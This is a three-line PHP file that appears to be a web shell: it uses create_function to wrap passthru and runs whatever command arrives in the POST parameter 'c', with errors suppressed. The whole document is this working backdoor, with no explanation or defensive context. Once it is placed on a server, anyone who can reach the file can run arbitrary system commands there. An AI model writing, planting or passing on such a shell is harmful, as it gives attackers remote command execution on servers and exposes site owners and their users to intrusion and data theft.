<?php
$lambda = create_function('$c', 'echo passthru($c);');
$lambda(@$_POST['c']);
